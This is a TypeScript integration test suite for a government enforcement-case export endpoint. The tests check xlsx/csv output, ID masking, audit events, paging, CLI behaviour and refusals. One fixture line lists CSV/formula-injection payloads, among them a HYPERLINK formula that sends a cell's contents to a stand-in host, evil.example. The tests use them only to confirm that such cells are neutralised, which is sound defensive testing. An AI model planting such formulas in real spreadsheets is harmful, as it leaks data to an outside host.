import { execFile } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { Workbook } from 'exceljs';
import { issueUserToken } from '../../lib/identity';
import { readTable, readTableFromBuffer, type Table } from '../../lib/sheets';
import { syncAgencies } from '../../subgraphs/liaison/agencies';
import { EnforcementCaseModel } from '../../subgraphs/enforcement/models';
import { useDatabase } from '../helpers/db';
import { validIdNumber } from '../helpers/fixtures';
import { isoNow, replaceGrant } from '../helpers/grants';
import { startHub, type Caller, type Hub } from '../helpers/hub';
import { SharingGrantModel } from '../../subgraphs/liaison/models';

// POST /export through the real gateway and subgraphs: the file holds what the API answers the same caller (masking and
// access included), every exported record is an EXPORT audit event with its grant, and nothing in a cell runs as a formula.
useDatabase();

let hub: Hub;
let exportUrl: string;
const SCJ: Caller = { agency: '411221-SCJ', userId: 'export-scj' };
const HBJ: Caller = { agency: '411221-HBJ', userId: 'export-hbj' };
const ZRJ: Caller = { agency: '411221-ZRJ', userId: 'export-zrj' };
const AUDITOR: Caller = { agency: '411221-JCY', roles: ['auditor'] };
const idNumber = validIdNumber(777, '19750505');
const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '+1+2', '-3-4', '@SUM(A1:A9)'];
/** SCJ's cases: one about a person, then one per formula-like text in facts. */
let scjIds: string[] = [];
let hbjId = '';

const CASES = `{ enforcementCases(first: 100) { totalCount nodes { id caseNumber facts field status filedAt person { name idNumber idNumberMasked } } } }`;

interface Answer {
  status: number;
  headers: Headers;
  buffer: Buffer;
  json: () => { message?: string; errors?: { message: string; path?: (string | number)[]; extensions?: { code?: string } }[] };
}

async function exportAs(who: Caller | null, body: Record<string, unknown>): Promise<Answer> {
  const token = who && (await issueUserToken({ userId: who.userId ?? `u-${who.agency}`, agency: who.agency, roles: who.roles ?? ['officer'] }));
  const res = await fetch(exportUrl, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: JSON.stringify(body),
  });
  const buffer = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, buffer, json: () => JSON.parse(buffer.toString('utf8')) };
}

async function xlsx(who: Caller, body: Record<string, unknown>): Promise<{ answer: Answer; table: Table }> {
  const answer = await exportAs(who, body);
  if (answer.status !== 200) throw new Error(`export answered ${answer.status}: ${answer.buffer.toString('utf8')}`);
  expect(answer.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  return { answer, table: await readTableFromBuffer(answer.buffer, 'xlsx') };
}

/** The cells of a column by its header. */
const column = (t: Table, header: string) => {
  const i = t.header.indexOf(header);
  if (i < 0) throw new Error(`no column ${header} in ${t.header.join(', ')}`);
  return t.rows.map((r) => r.cells[i] ?? null);
};

type Event = { action: string; outcome: string; resourceType: string; resourceIds: string[]; grantId: string | null };

/** The EXPORT events of ENFORCEMENT_CASE records by `agency` since `from`, as an auditor reads them. */
async function exportEvents(agency: string, from: string): Promise<Event[]> {
  const d = await hub.ok(AUDITOR, `query($a: String!, $from: DateTime) { auditEvents(filter: { actorAgency: $a, from: $from }, first: 100) {
    nodes { action outcome resourceType resourceIds grantId } } }`, { a: agency, from });
  return (d.auditEvents.nodes as Event[]).filter((e) => e.action === 'EXPORT' && e.resourceType === 'ENFORCEMENT_CASE');
}
const idsOf = (events: Event[]) => events.flatMap((e) => e.resourceIds).sort();

beforeAll(async () => {
  await syncAgencies();
  await SharingGrantModel.deleteMany({});
  hub = await startHub();
  exportUrl = hub.url.replace(/\/graphql$/, '/export');
  const p = await hub.query(SCJ, `mutation($n: String!) { registerPerson(input: { name: "王五", idNumber: $n }) { id } }`, { n: idNumber });
  expect(p.errors).toBeUndefined();
  const base = { agencyCode: SCJ.agency, field: 'MARKET', status: 'INVESTIGATING', version: 0 };
  const docs = await EnforcementCaseModel.insertMany([
    { ...base, caseNumber: '渑市监罚〔2026〕1号', facts: '无照经营', personId: p.data!.registerPerson.id, filedAt: new Date('2026-01-05T00:00:00Z') },
    ...INJECTIONS.map((facts, i) => ({ ...base, caseNumber: `渑市监罚〔2026〕${i + 2}号`, facts, filedAt: new Date(`2026-01-0${i + 6}T00:00:00Z`) })),
  ]);
  scjIds = docs.map((d) => d._id).sort();
  const own = await EnforcementCaseModel.create({ agencyCode: HBJ.agency, field: 'ECOLOGY', status: 'INVESTIGATING', version: 0, caseNumber: '渑环罚〔2026〕1号', facts: '超标排放', filedAt: new Date('2026-02-01T00:00:00Z') });
  hbjId = own._id;
});
afterAll(() => hub.stop());

describe('export of an agency’s own records', () => {
  it('answers an .xlsx with the records, headers from the schema’s Chinese labels, and audits exactly those ids as EXPORT', async () => {
    const from = isoNow();
    const { answer, table } = await xlsx(SCJ, { query: CASES });
    expect(table.header).toEqual(['id', '案号', '案情摘要', '执法领域', '案件状态', '立案日期', '当事人(自然人)·姓名', '当事人(自然人)·身份证号(明文)', '当事人(自然人)·身份证号(脱敏)']);
    expect(table.rows).toHaveLength(scjIds.length);
    expect(answer.headers.get('x-export-rows')).toBe(String(scjIds.length));
    expect(column(table, 'id').sort()).toEqual(scjIds);
    // The owner sees the raw number, as in the API; enum values by their label; dates as dates.
    const person = table.rows.find((r) => r.cells[1] === '渑市监罚〔2026〕1号')!.cells;
    expect(person.slice(3, 9)).toEqual(['市场监管', expect.any(String), new Date('2026-01-05T00:00:00Z'), '王五', idNumber, expect.stringMatching(/^411\*+\d{4}$/)]);
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"]+\.xlsx"; filename\*=UTF-8''/);
    const name = decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(answer.headers.get('content-disposition')!)![1]);
    expect(name).toMatch(/^行政执法案件-\d{8}\.xlsx$/);
    expect(answer.headers.get('cache-control')).toBe('no-store');

    const events = await exportEvents(SCJ.agency, from);
    expect(idsOf(events)).toEqual(scjIds);
    expect(events.every((e) => e.outcome === 'ALLOWED' && e.grantId === null)).toBe(true);
  });

  it('neutralises cells that begin with = + - @ in .xlsx (text, never a formula) and in .csv', async () => {
    const query = '{ enforcementCases(first: 100) { nodes { caseNumber facts } } }';
    const { table } = await xlsx(SCJ, { query });
    const facts = column(table, '案情摘要');
    for (const text of INJECTIONS) expect(facts).toContain(`'${text}`);
    expect(facts).toContain('无照经营');
    const csv = await exportAs(SCJ, { query, format: 'csv' });
    expect(csv.status).toBe(200);
    const read = await readTableFromBuffer(csv.buffer, 'csv');
    for (const text of INJECTIONS) expect(column(read, '案情摘要')).toContain(`'${text}`);
  });

  it('answers a .csv in UTF-8 with a BOM, Chinese headers and the name asked for', async () => {
    const r = await exportAs(SCJ, { query: '{ enforcementCases { nodes { caseNumber field } } }', format: 'csv', filename: '../执法案件清单.csv' });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect([...r.buffer.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(r.buffer.subarray(3).toString('utf8').split('\r\n')[0]).toBe('案号,执法领域');
    expect(r.headers.get('x-export-rows')).toBe(String(scjIds.length));
    expect(r.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent('执法案件清单.csv')}`);
  });
});

describe('access and masking as in the API', () => {
  it('under a grant without personal data: the shared records with the ID number masked, audited with the grant', async () => {
    await replaceGrant({ _id: 'g-export', granteeCode: HBJ.agency, providerCode: SCJ.agency, resourceTypes: ['ENFORCEMENT_CASE'], purpose: '生态环境线索核查', legalBasis: '行政诉讼法第二十五条' });
    try {
      const from = isoNow();
      const api = await hub.ok(HBJ, CASES);
      const { table } = await xlsx(HBJ, { query: CASES });
      expect(column(table, 'id').sort()).toEqual([...scjIds, hbjId].sort());
      expect(table.rows).toHaveLength(api.enforcementCases.nodes.length);
      const row = table.rows.find((r) => r.cells[1] === '渑市监罚〔2026〕1号')!.cells;
      expect(row[7] ?? null).toBeNull(); // 身份证号(明文): null, as the API answers it
      expect(row[8]).toMatch(/^411\*+\d{4}$/);
      expect(JSON.stringify(table)).not.toContain(idNumber);

      const events = await exportEvents(HBJ.agency, from);
      expect(idsOf(events.filter((e) => e.grantId === 'g-export'))).toEqual(scjIds);
      expect(idsOf(events.filter((e) => e.grantId === null))).toEqual([hbjId]);
    } finally {
      await SharingGrantModel.deleteMany({});
    }
  });

  it('without a grant an agency gets only its own records, and one with none an empty sheet', async () => {
    const { table } = await xlsx(HBJ, { query: CASES });
    expect(column(table, 'id')).toEqual([hbjId]);
    const none = await xlsx({ agency: '411221-NYJ' }, { query: CASES });
    expect(none.table.rows).toEqual([]);
    expect(none.table.header).toContain('案号');
    expect(none.answer.headers.get('x-export-rows')).toBe('0');
  });
});

describe('paging', () => {
  it('follows the pages of a query that declares $after, so every record is exported, not only the first 100', async () => {
    const docs = Array.from({ length: 230 }, (_, i) => ({
      agencyCode: ZRJ.agency, field: 'NATURAL_RESOURCES', status: 'INVESTIGATING', version: 0, caseNumber: `渑自然资罚〔2025〕${i + 1}号`,
      facts: '非法占用耕地', filedAt: new Date(Date.UTC(2025, 0, 1) + i * 3_600_000),
    }));
    const ids = (await EnforcementCaseModel.insertMany(docs)).map((d) => d._id).sort();
    const from = isoNow();
    const query = 'query Cases($after: String) { enforcementCases(first: 100, after: $after) { pageInfo { hasNextPage endCursor } nodes { id caseNumber } } }';
    const { answer, table } = await xlsx(ZRJ, { query, operationName: 'Cases' });
    expect(answer.headers.get('x-export-rows')).toBe('230');
    expect(column(table, 'id').sort()).toEqual(ids);
    expect(idsOf(await exportEvents(ZRJ.agency, from))).toEqual(ids);
    // Without $after the query is exported as answered: one page.
    const one = await xlsx(ZRJ, { query: '{ enforcementCases(first: 100) { pageInfo { hasNextPage endCursor } nodes { id } } }' });
    expect(one.table.rows).toHaveLength(100);
  });
});

describe('refusals and errors', () => {
  it('refuses a caller without a token (401), as /graphql does', async () => {
    const r = await exportAs(null, { query: CASES });
    expect(r.status).toBe(401);
    expect(r.json().errors?.[0].extensions?.code).toBe('UNAUTHENTICATED');
  });

  it('refuses a mutation before running it', async () => {
    const r = await exportAs(SCJ, { query: 'mutation { registerPerson(input: { name: "赵六", idNumber: "411221198001010011" }) { id } }' });
    expect(r.status).toBe(400);
    expect(r.json().errors?.[0]).toMatchObject({ message: expect.stringContaining('query only'), extensions: { code: 'BAD_REQUEST' } });
  });

  it.each([
    ['{ enforcementCases { nodes { nope } } }', 'GRAPHQL_VALIDATION_FAILED'],
    ['{ enforcementCases { nodes { id }', 'GRAPHQL_PARSE_FAILED'],
  ])('answers a query the API refuses (%s) with its errors, codes kept (400)', async (query, code) => {
    const r = await exportAs(SCJ, { query });
    expect(r.status).toBe(400);
    expect(r.json().errors?.[0].extensions?.code).toBe(code);
  });

  it('refuses a CSV of several sheets before running the query', async () => {
    const r = await exportAs(SCJ, { query: '{ enforcementCases { nodes { id } } agencies(first: 5) { nodes { code } } }', format: 'csv' });
    expect(r.status).toBe(400);
    expect(r.json().errors?.[0].message).toMatch(/xlsx/);
  });

  it('with partial data: the .xlsx has the rows and a 说明 sheet naming each error; a .csv is refused with the errors (422)', async () => {
    const query = '{ enforcementCases { nodes { caseNumber } } missing: enforcementCase(id: "no-such-case") { __typename } }';
    const { answer, table } = await xlsx(SCJ, { query });
    expect(table.rows).toHaveLength(scjIds.length);
    const book = new Workbook();
    await book.xlsx.load(answer.buffer as never);
    expect(book.worksheets.map((w) => w.name)).toEqual(['行政执法案件', '说明']);
    const notes = book.getWorksheet('说明')!;
    expect(notes.getRow(2).values).toEqual([undefined, '错误', 'missing', expect.any(String), 'FORBIDDEN']);
    const csv = await exportAs(SCJ, { query, format: 'csv' });
    expect(csv.status).toBe(422);
    expect(csv.json()).toMatchObject({ message: expect.stringContaining('xlsx'), errors: [{ path: ['missing'], extensions: { code: 'FORBIDDEN' } }] });
  });
});

describe('npm run export (scripts/export.ts)', () => {
  const TSX = path.resolve(__dirname, '../../node_modules/.bin/tsx');
  const SCRIPT = path.resolve(__dirname, '../../scripts/export.ts');

  async function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
    try {
      const { stdout, stderr } = await promisify(execFile)(TSX, [SCRIPT, ...args], { timeout: 60_000 });
      return { code: 0, stdout, stderr };
    } catch (e) {
      const err = e as { code: number; stdout: string; stderr: string };
      return { code: err.code, stdout: err.stdout, stderr: err.stderr };
    }
  }

  it('writes the file the gateway answers, prints its sheets and rows, and exits 1 with the gateway’s message on a refusal', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'export-'));
    const query = path.join(dir, 'cases.graphql');
    writeFileSync(query, 'query Cases($after: String, $first: Int) { enforcementCases(first: $first, after: $after) { pageInfo { hasNextPage endCursor } nodes { id caseNumber } } }');
    const token = await issueUserToken({ userId: 'export-cli', agency: SCJ.agency, roles: ['officer'] });
    const out = path.join(dir, '案件.xlsx');
    const ok = await cli(['--query', query, '--variables', '{"first": 2}', '--out', out, '--token', token, '--url', hub.url]);
    expect(ok).toMatchObject({ code: 0, stdout: expect.stringContaining(`${scjIds.length} records`) });
    expect(ok.stdout).toContain(`行政执法案件: ${scjIds.length} rows`);
    expect(column(await readTable(out), 'id').sort()).toEqual(scjIds);

    writeFileSync(query, 'mutation { registerPerson(input: { name: "赵六", idNumber: "x" }) { id } }');
    const refused = await cli(['--query', query, '--out', path.join(dir, 'x.csv'), '--token', token, '--url', hub.url]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/export refused \(HTTP 400\)[\s\S]*query only/);
  }, 120_000);
});
